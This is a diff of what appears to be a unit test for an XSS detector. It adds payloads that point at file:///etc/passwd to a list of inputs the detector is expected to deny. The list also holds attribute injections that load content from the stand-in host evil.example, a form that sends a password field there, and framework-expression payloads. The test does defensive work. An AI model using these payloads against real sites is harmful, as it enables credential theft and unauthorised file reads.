@@ -463,7 +463,8 @@ TEST(Xss, AttributesThatBringIn) {
         "<x hx-get=//evil.example hx-trigger=load>", "<x ng-include=\"'//evil.example'\">",
         "<form action=//evil.example><input name=password>", "<!-- ko text:alert(1) -->",
         "<x click.trigger=\"$this.constructor.constructor('alert(1)')()\">",
-        "<x ng:click=\"$event.view.alert(1)\">"})
+        "<x ng:click=\"$event.view.alert(1)\">", "<iframe src=file:///etc/passwd>",
+        "<link rel=attachment href=file:///etc/passwd>"})
     for (const Location location : {Location::kQuery, Location::kBody})
       EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, location, false, "v"))) << text;
   // In rich text they are an author's own.
